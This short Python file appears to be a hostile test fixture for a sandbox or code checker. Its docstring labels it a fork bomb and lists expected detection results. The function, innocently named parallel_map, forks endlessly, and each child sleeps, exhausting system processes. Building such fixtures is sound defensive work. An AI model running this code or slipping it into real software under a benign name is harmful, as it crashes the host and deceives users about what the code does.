"""Hostile: forks without end; every child sleeps, so processes pile up until something stops it.

expect-kata: 64
expect-words: processes, fork bomb
"""

import os
import time


def parallel_map(func, items, *, workers, chunksize=None):
    while True:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
